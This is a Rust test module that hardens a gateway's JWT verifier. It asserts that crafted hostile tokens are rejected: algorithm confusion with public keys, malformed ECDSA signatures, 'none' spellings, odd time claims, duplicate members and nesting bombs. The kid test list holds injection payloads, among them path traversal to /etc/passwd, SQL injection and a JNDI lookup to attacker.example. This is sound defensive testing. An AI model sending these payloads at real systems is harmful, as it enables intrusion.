//! Hostile tokens through the real `verify`, one table per attack family,
//! each row asserting the exact `TokenError` (issue "hardening"). What
//! `super` already covers (HS256 keyed with the RSA public PEM, `none` and
//! `NONE` with an empty signature, `kid` a number, `exp` null or a string,
//! the 16 KiB boundary) is not repeated here.

use super::*;

/// `DER` of a PEM document (its base64 body).
fn pem_der(pem: &[u8]) -> Vec<u8> {
    let text = std::str::from_utf8(pem).unwrap();
    let body: String = text.lines().filter(|l| !l.starts_with("-----")).collect();
    STANDARD.decode(body).unwrap()
}

/// One DER element at the start of `der`: (tag, content, rest).
fn der_element(der: &[u8]) -> (u8, &[u8], &[u8]) {
    let (tag, first) = (der[0], der[1]);
    let (len, head) = if first < 0x80 {
        (usize::from(first), 2)
    } else {
        let n = usize::from(first & 0x7f);
        (der[2..2 + n].iter().fold(0usize, |acc, b| acc << 8 | usize::from(*b)), 2 + n)
    };
    (tag, &der[head..head + len], &der[head + len..])
}

/// The key bytes inside a SubjectPublicKeyInfo: PKCS#1 `RSAPublicKey` for
/// RSA, the uncompressed point for P-256, the 32 bytes for Ed25519.
fn spki_key_bytes(spki: &[u8]) -> Vec<u8> {
    let (tag, seq, _) = der_element(spki);
    assert_eq!(tag, 0x30, "SubjectPublicKeyInfo is a SEQUENCE");
    let (_, _algorithm, rest) = der_element(seq);
    let (tag, bits, _) = der_element(rest);
    assert_eq!(tag, 0x03, "subjectPublicKey is a BIT STRING");
    assert_eq!(bits[0], 0, "no unused bits");
    bits[1..].to_vec()
}

fn hs256_with_secret(header: &Value, secret: &[u8]) -> String {
    craft(header, &base_claims(), &EncodingKey::from_secret(secret), Algorithm::HS256)
}

/// The public key of every asymmetric configured key, in each form an
/// attacker might feed an HMAC: as the HS256 secret, with the key's own
/// kid (no HMAC key has it), with no kid (the configured HMAC key "hs" is
/// tried and the MAC differs) and with the HMAC key's kid.
#[test]
fn hs256_keyed_with_public_key_bytes() {
    let auth = settings();
    let rsa_der = pem_der(&rsa().public_pem);
    let ec_der = pem_der(&ec().public_pem);
    let ed_der = pem_der(&ed().public_pem);
    let trimmed = |pem: &[u8]| String::from_utf8(pem.to_vec()).unwrap().trim_end().as_bytes().to_vec();
    let forms: Vec<(&str, &str, Vec<u8>)> = vec![
        ("RSA public PEM without its final newline", "rsa", trimmed(&rsa().public_pem)),
        ("RSA SubjectPublicKeyInfo DER", "rsa", rsa_der.clone()),
        ("RSA PKCS#1 RSAPublicKey DER", "rsa", spki_key_bytes(&rsa_der)),
        ("EC public PEM", "ec", ec().public_pem.clone()),
        ("EC SubjectPublicKeyInfo DER", "ec", ec_der.clone()),
        ("EC uncompressed point", "ec", spki_key_bytes(&ec_der)),
        ("EC public JWK text", "ec", ec_jwk(ec(), "ec").to_string().into_bytes()),
        ("Ed25519 public PEM", "ed", ed().public_pem.clone()),
        ("Ed25519 SubjectPublicKeyInfo DER", "ed", ed_der.clone()),
        ("Ed25519 raw public key", "ed", spki_key_bytes(&ed_der)),
        ("JWKS EC key as JWK text", "jw-ec", ec_jwk(jwks_ec(), "jw-ec").to_string().into_bytes()),
    ];
    assert_eq!(spki_key_bytes(&ec_der), ec().raw_public, "the DER walk finds the point");
    for (label, kid, secret) in &forms {
        let rows = [
            (json!({"alg": "HS256", "kid": kid}), TokenError::UnknownKey),
            (json!({"alg": "HS256"}), TokenError::BadSignature),
            (json!({"alg": "HS256", "kid": "hs"}), TokenError::BadSignature),
        ];
        for (header, expected) in rows {
            let token = hs256_with_secret(&header, secret);
            check(&auth, &format!("{label}, header {header}"), &token, NOW, &Err(expected));
        }
    }
    // With no HMAC key configured, an HS256 token has no key to be checked against at all.
    let mut no_hmac = settings();
    no_hmac.keys.retain(|k| k.alg != Algorithm::HS256);
    let token = hs256_with_secret(&json!({"alg": "HS256"}), &ec().public_pem);
    let got = super::super::verify(&no_hmac, &KeySet::new(no_hmac.keys.iter().cloned()), &token, NOW).map(|_| ());
    assert_eq!(got, Err(TokenError::UnknownKey), "no HMAC key configured");
    // And with HS256 out of the allowlist it is refused before any key is looked at.
    no_hmac.algorithms.retain(|a| *a != Algorithm::HS256);
    check(&no_hmac, "HS256 not allowed", &token, NOW, &Err(TokenError::AlgorithmNotAllowed));
    // HS384/HS512 keyed with a public key: not in the allowlist.
    for alg in [Algorithm::HS384, Algorithm::HS512] {
        let t = craft(
            &json!({"alg": format!("{alg:?}"), "kid": "ec"}),
            &base_claims(),
            &EncodingKey::from_secret(&ec().public_pem),
            alg,
        );
        check(&auth, &format!("{alg:?} keyed with the EC PEM"), &t, NOW, &Err(TokenError::AlgorithmNotAllowed));
    }
}

/// P-256 group order n, big-endian.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa,
    0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// a - b for 32-byte big-endian numbers (a >= b).
fn sub_be(a: &[u8; 32], b: &[u8]) -> Vec<u8> {
    let mut out = vec![0u8; 32];
    let mut borrow = 0i16;
    for i in (0..32).rev() {
        let mut d = i16::from(a[i]) - i16::from(b[i]) - borrow;
        borrow = i16::from(d < 0);
        if d < 0 {
            d += 256;
        }
        out[i] = u8::try_from(d).unwrap();
    }
    assert_eq!(borrow, 0);
    out
}

/// An ASN.1 INTEGER for a big-endian unsigned number.
fn der_integer(n: &[u8]) -> Vec<u8> {
    let start = n.iter().position(|b| *b != 0).unwrap_or(n.len() - 1);
    let mut v = n[start..].to_vec();
    if v[0] & 0x80 != 0 {
        v.insert(0, 0);
    }
    let mut out = vec![0x02, u8::try_from(v.len()).unwrap()];
    out.extend(v);
    out
}

/// The ASN.1 DER form of a JWS `r || s` ECDSA signature (what OpenSSL and
/// Java produce by default, and what JWS forbids: RFC 7518 §3.4).
fn der_signature(raw: &[u8]) -> Vec<u8> {
    let mut body = der_integer(&raw[..32]);
    body.extend(der_integer(&raw[32..]));
    let mut out = vec![0x30, u8::try_from(body.len()).unwrap()];
    out.extend(body);
    out
}

#[test]
fn es256_signature_encodings() {
    let auth = settings();
    let token = es256(&base_claims());
    check(&auth, "the unchanged token", &token, NOW, &Ok(()));
    let (message, sig) = token.rsplit_once('.').unwrap();
    let raw = URL_SAFE_NO_PAD.decode(sig).unwrap();
    assert_eq!(raw.len(), 64, "JWS ES256 is r || s, 32 bytes each");
    let with_sig = |bytes: &[u8]| format!("{message}.{}", b64(bytes));
    let padded_halves = [&[0u8][..], &raw[..32], &[0u8][..], &raw[32..]].concat();
    let high_s = [&raw[..32], &sub_be(&P256_N, &raw[32..])[..]].concat();
    let bad = Err(TokenError::BadSignature);
    let rows: Vec<(&str, String, Result<(), TokenError>)> = vec![
        ("DER-encoded (SEQUENCE of two INTEGERs)", with_sig(&der_signature(&raw)), bad.clone()),
        ("65 bytes: a trailing zero", with_sig(&[&raw[..], &[0u8][..]].concat()), bad.clone()),
        ("65 bytes: a leading zero", with_sig(&[&[0u8][..], &raw[..]].concat()), bad.clone()),
        ("66 bytes: r and s each padded to 33", with_sig(&padded_halves), bad.clone()),
        ("63 bytes: the last byte cut", with_sig(&raw[..63]), bad.clone()),
        ("32 bytes: r only", with_sig(&raw[..32]), bad.clone()),
        ("1 byte", with_sig(&raw[..1]), bad.clone()),
        ("128 bytes: the signature twice", with_sig(&[&raw[..], &raw[..]].concat()), bad.clone()),
        ("96 bytes: ES384's length", with_sig(&[&raw[..], &raw[..32]].concat()), bad.clone()),
        ("r and s swapped", with_sig(&[&raw[32..], &raw[..32]].concat()), bad.clone()),
        ("all zeros", with_sig(&[0u8; 64]), bad.clone()),
        ("base64 padding appended", format!("{token}=="), bad.clone()),
        ("standard base64 alphabet", format!("{message}.{}", STANDARD.encode(&raw).trim_end_matches('=')), {
            // Only a signature with a byte that base64url spells as '-' or '_' changes.
            if b64(&raw).contains(['-', '_']) {
                bad.clone()
            } else {
                Ok(())
            }
        }),
        ("whitespace inside the signature", format!("{message}.{} {}", &sig[..40], &sig[40..]), bad.clone()),
        // ECDSA is malleable: (r, n - s) is a second valid signature of the
        // same message by the same key. JWS (RFC 7518 §3.4) has no low-S
        // rule, so it verifies; it is no forgery (only the key holder's
        // claims, with no change), and the token cache keys on the token's
        // own bytes, so the two forms are simply two tokens.
        ("high-S twin (r, n - s)", with_sig(&high_s), Ok(())),
    ];
    for (label, token, expected) in &rows {
        check(&auth, label, token, NOW, expected);
    }
}

#[test]
fn kid_injection_strings_match_no_key() {
    let auth = settings();
    let es = enc(Algorithm::ES256, ec());
    let signed = |header: Value| craft(&header, &base_claims(), &es, Algorithm::ES256);
    let unknown = [
        "../../etc/passwd",
        "../../../../../../dev/null",
        "/etc/passwd",
        "' OR 1=1 --",
        "ec' OR '1'='1",
        "\"; DROP TABLE keys; --",
        "\u{0}",
        "ec\u{0}",
        "\u{0}ec",
        "ec\u{0}ignored",
        "EC",
        " ec",
        "ec ",
        "ec\n",
        "\u{0435}c",
        "*",
        "%",
        ".*",
        "",
        "${jndi:ldap://attacker.example/a}",
        "http://attacker.example/jwks.json",
    ];
    for kid in unknown {
        check(
            &auth,
            &format!("kid {kid:?}"),
            &signed(json!({"alg": "ES256", "kid": kid})),
            NOW,
            &Err(TokenError::UnknownKey),
        );
    }
    let long = "k".repeat(10_000);
    let t = signed(json!({"alg": "ES256", "kid": long}));
    assert!(t.len() < MAX_TOKEN_BYTES, "{}", t.len());
    check(&auth, "a 10 kB kid", &t, NOW, &Err(TokenError::UnknownKey));
    let t = signed(json!({"alg": "ES256", "kid": "k".repeat(20_000)}));
    check(&auth, "a 20 kB kid (token over 16 KiB)", &t, NOW, &Err(TokenError::TooLarge));
    let non_strings =
        [json!(null), json!(true), json!(0), json!(7.5), json!(["ec"]), json!({"kid": "ec"}), json!([]), json!({})];
    for kid in non_strings {
        check(
            &auth,
            &format!("kid {kid}"),
            &signed(json!({"alg": "ES256", "kid": kid})),
            NOW,
            &Err(TokenError::Malformed),
        );
    }
}

#[test]
fn none_in_every_spelling_is_refused() {
    let auth = settings();
    let body = b64(base_claims().to_string().as_bytes());
    let mut tried = 0;
    for alg in ["none", "None", "NONE", "nOnE", "NoNe", " none", "none ", "none\u{0}"] {
        for header in [json!({"alg": alg}), json!({"alg": alg, "kid": "ec"}), json!({"alg": alg, "kid": "hs"})] {
            let head = b64(header.to_string().as_bytes());
            let three = [
                ("empty signature", format!("{head}.{body}.")),
                ("junk signature", format!("{head}.{body}.AAAA")),
                ("an ES256 signature of the text", {
                    let sig = jsonwebtoken::crypto::sign(
                        format!("{head}.{body}").as_bytes(),
                        &enc(Algorithm::ES256, ec()),
                        Algorithm::ES256,
                    )
                    .unwrap();
                    format!("{head}.{body}.{sig}")
                }),
            ];
            for (what, token) in three {
                check(&auth, &format!("{header} {what}"), &token, NOW, &Err(TokenError::AlgorithmNotAllowed));
                tried += 1;
            }
            check(
                &auth,
                &format!("{header} no signature part"),
                &format!("{head}.{body}"),
                NOW,
                &Err(TokenError::Malformed),
            );
            tried += 1;
        }
    }
    // Near misses of allowed names are not those algorithms.
    for alg in ["", "hs256", "Hs256", "HS256 ", "es256", "ES-256", "EDDSA", "eddsa", "Ed25519"] {
        let head = b64(json!({"alg": alg, "kid": "hs"}).to_string().as_bytes());
        let message = format!("{head}.{body}");
        let sig = jsonwebtoken::crypto::sign(message.as_bytes(), &hmac_key(), Algorithm::HS256).unwrap();
        check(&auth, &format!("alg {alg:?}"), &format!("{message}.{sig}"), NOW, &Err(TokenError::AlgorithmNotAllowed));
        tried += 1;
    }
    assert_eq!(tried, 8 * 3 * 4 + 9);
    // And no spelling of it can be configured.
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let text = format!(
            "[upstream]\nurl = \"https://hostedsuite.invalid\"\n[auth]\nissuers = [\"{ISS}\"]\naudiences = [\"{AUD}\"]\n\
             algorithms = [\"{spelling}\"]\n[[auth.hmac]]\nkid = \"k\"\nsecret = \"s\"\n"
        );
        let dir = tempfile::tempdir().unwrap();
        let err = crate::config::load_str(&text, &dir.path().join("hsgate.toml")).unwrap_err();
        assert!(err.problems.iter().any(|p| p.key == "auth.algorithms[0]"), "{spelling}: {err}");
    }
}

/// A token whose payload is this JSON text, byte for byte (serde_json
/// could not write `1e400`, `2^64` or duplicate keys).
fn es256_text(payload: &str) -> String {
    craft_parts(
        &b64(br#"{"alg":"ES256","kid":"ec"}"#),
        &b64(payload.as_bytes()),
        &enc(Algorithm::ES256, ec()),
        Algorithm::ES256,
    )
}

/// Claims valid at NOW, as JSON text, with `name` set to the raw text `value`.
fn claims_text(name: &str, value: &str) -> String {
    let mut claims = base_claims();
    claims.as_object_mut().unwrap().remove(name);
    let text = claims.to_string();
    format!("{},\"{name}\":{value}}}", &text[..text.len() - 1])
}

#[test]
fn numeric_edge_cases_in_time_claims() {
    let exp_ok = (NOW + 600.0).to_string();
    let exp_array = format!("[{exp_ok}]");
    let exp_object = format!("{{\"v\":{exp_ok}}}");
    let two_64 = "18446744073709551616";
    let two_53_1 = "9007199254740993";
    let ok = Ok(());
    let bad = TokenError::BadTimeClaim;
    let rows: Vec<(&str, &str, Result<(), TokenError>)> = vec![
        // serde_json refuses numbers beyond f64: the payload is not JSON it reads.
        ("exp", "1e400", Err(TokenError::Malformed)),
        ("exp", "-1e400", Err(TokenError::Malformed)),
        ("exp", "-1", Err(TokenError::Expired)),
        ("exp", "0", Err(TokenError::Expired)),
        ("exp", "-0", Err(TokenError::Expired)),
        ("exp", "1e-400", Err(TokenError::Expired)),
        ("exp", "1.5", Err(TokenError::Expired)),
        ("exp", "\"NaN\"", Err(bad("exp"))),
        ("exp", "\"Infinity\"", Err(bad("exp"))),
        ("exp", "\"123\"", Err(bad("exp"))),
        ("exp", "true", Err(bad("exp"))),
        ("exp", &exp_array, Err(bad("exp"))),
        ("exp", &exp_object, Err(bad("exp"))),
        // A far future exp is a long-lived token, which only max_token_lifetime bounds.
        ("exp", two_64, ok.clone()),
        ("exp", two_53_1, ok.clone()),
        ("exp", "1e308", ok.clone()),
        ("exp", "1.7000006e9", ok.clone()),
        ("nbf", "1e400", Err(TokenError::Malformed)),
        ("nbf", "-1", ok.clone()),
        ("nbf", "1.5", ok.clone()),
        ("nbf", "-1e308", ok.clone()),
        ("nbf", two_64, Err(TokenError::NotYetValid)),
        ("nbf", two_53_1, Err(TokenError::NotYetValid)),
        ("nbf", "\"NaN\"", Err(bad("nbf"))),
        ("nbf", "\"123\"", Err(bad("nbf"))),
        ("nbf", "null", Err(bad("nbf"))),
        ("iat", "1e400", Err(TokenError::Malformed)),
        ("iat", "-1", ok.clone()),
        ("iat", "1.5", ok.clone()),
        ("iat", two_64, Err(TokenError::IssuedInFuture)),
        ("iat", two_53_1, Err(TokenError::IssuedInFuture)),
        ("iat", "\"NaN\"", Err(bad("iat"))),
        ("iat", "\"123\"", Err(bad("iat"))),
        ("iat", "null", Err(bad("iat"))),
    ];
    let auth = settings();
    for (name, value, expected) in &rows {
        check(&auth, &format!("{name}: {value}"), &es256_text(&claims_text(name, value)), NOW, expected);
    }
    // With max_token_lifetime, absurd values are bounded by exp - iat.
    let mut bounded = settings();
    bounded.max_token_lifetime = Some(Duration::from_secs(3600));
    let rows: Vec<(&str, &str, Result<(), TokenError>)> = vec![
        ("exp", two_64, Err(TokenError::LifetimeTooLong)),
        ("exp", "1e308", Err(TokenError::LifetimeTooLong)),
        ("iat", "-1", Err(TokenError::LifetimeTooLong)),
        ("iat", "1.5", Err(TokenError::LifetimeTooLong)),
        ("iat", "-1e308", Err(TokenError::LifetimeTooLong)),
        ("iat", "null", Err(bad("iat"))),
    ];
    for (name, value, expected) in &rows {
        check(&bounded, &format!("bounded {name}: {value}"), &es256_text(&claims_text(name, value)), NOW, expected);
    }
}

/// RFC 7515 §4 and RFC 7519 §4: a parser must refuse duplicate member names
/// or take the lexically last one. The gateway takes the last (serde_json),
/// and every reader of the header and claims (the allowlist check, key
/// choice, the cache's `header_alg`, grant matching, the audit record) reads
/// the same map, so no two parts of the gateway can see different values.
#[test]
fn duplicate_members_take_the_last_value() {
    let auth = settings();
    let es = enc(Algorithm::ES256, ec());
    let body = b64(base_claims().to_string().as_bytes());
    let header_rows: Vec<(&str, &str, Result<(), TokenError>)> = vec![
        ("alg none, then ES256", r#"{"alg":"none","alg":"ES256","kid":"ec"}"#, Ok(())),
        ("alg ES256, then none", r#"{"alg":"ES256","alg":"none","kid":"ec"}"#, Err(TokenError::AlgorithmNotAllowed)),
        ("alg HS256, then ES256", r#"{"alg":"HS256","kid":"ec","alg":"ES256"}"#, Ok(())),
        ("kid unknown, then ec", r#"{"alg":"ES256","kid":"nope","kid":"ec"}"#, Ok(())),
        ("kid ec, then unknown", r#"{"alg":"ES256","kid":"ec","kid":"nope"}"#, Err(TokenError::UnknownKey)),
        ("kid ec, then a number", r#"{"alg":"ES256","kid":"ec","kid":1}"#, Err(TokenError::Malformed)),
        ("crit twice", r#"{"alg":"ES256","kid":"ec","crit":["exp"],"crit":["exp"]}"#, Err(TokenError::CriticalHeader)),
    ];
    for (label, header, expected) in &header_rows {
        check(&auth, label, &craft_parts(&b64(header.as_bytes()), &body, &es, Algorithm::ES256), NOW, expected);
    }
    let exp_ok = NOW + 600.0;
    let exp_past = NOW - 1000.0;
    let claims = |tail: &str| format!(r#"{{"iss":"{ISS}","aud":"{AUD}","iat":{NOW},"jti":"t-1",{tail}}}"#);
    let claim_rows: Vec<(&str, String, Result<&str, TokenError>)> = vec![
        ("sub twice", claims(&format!(r#""exp":{exp_ok},"sub":"admin","sub":"svc-notes""#)), Ok("svc-notes")),
        (
            "exp valid, then past",
            claims(&format!(r#""sub":"s","exp":{exp_ok},"exp":{exp_past}"#)),
            Err(TokenError::Expired),
        ),
        ("exp past, then valid", claims(&format!(r#""sub":"s","exp":{exp_past},"exp":{exp_ok}"#)), Ok("s")),
        (
            "iss twice",
            claims(&format!(r#""sub":"s","exp":{exp_ok},"iss":"{ISS}","iss":"https://evil.example""#)),
            Err(TokenError::BadIssuer),
        ),
        (
            "sub, then null",
            claims(&format!(r#""exp":{exp_ok},"sub":"s","sub":null"#)),
            Err(TokenError::MissingClaim("sub".into())),
        ),
    ];
    for (label, payload, expected) in &claim_rows {
        let got = verify(&auth, &es256_text(payload), NOW);
        match (got, expected) {
            (Ok(c), Ok(sub)) => assert_eq!(c.subject(), Some(*sub), "row {label:?}"),
            (Err(e), Err(want)) => assert_eq!(&e, want, "row {label:?}"),
            (got, want) => panic!("row {label:?}: got {got:?}, want {want:?}"),
        }
    }
}

#[test]
fn huge_and_deeply_nested_tokens() {
    let auth = settings();
    let es = enc(Algorithm::ES256, ec());
    let body = b64(base_claims().to_string().as_bytes());
    // serde_json stops at 128 levels: a nesting bomb is refused, without a stack overflow.
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let header = format!(r#"{{"alg":"ES256","kid":"ec","x":{}}}"#, deep(5000));
    let token = craft_parts(&b64(header.as_bytes()), &body, &es, Algorithm::ES256);
    assert!(token.len() < MAX_TOKEN_BYTES);
    check(&auth, "header nested 5000 deep", &token, NOW, &Err(TokenError::Malformed));
    let payload = claims_text("x", &deep(5000));
    check(&auth, "payload nested 5000 deep (signed)", &es256_text(&payload), NOW, &Err(TokenError::Malformed));
    let payload = claims_text("x", &deep(100));
    check(&auth, "payload nested 100 deep (signed)", &es256_text(&payload), NOW, &Ok(()));
    let rows: Vec<(&str, String, TokenError)> = vec![
        ("16384 dots", ".".repeat(MAX_TOKEN_BYTES), TokenError::Malformed),
        ("16385 dots", ".".repeat(MAX_TOKEN_BYTES + 1), TokenError::TooLarge),
        ("4000 segments", vec!["e30"; 4000].join("."), TokenError::Malformed),
        ("1 MiB of base64", "A".repeat(1 << 20), TokenError::TooLarge),
        ("a 16 KiB header alone", format!("{}..", b64(&vec![b' '; 12_000])), TokenError::Malformed),
    ];
    for (label, token, expected) in rows {
        check(&auth, label, &token, NOW, &Err(expected));
    }
}
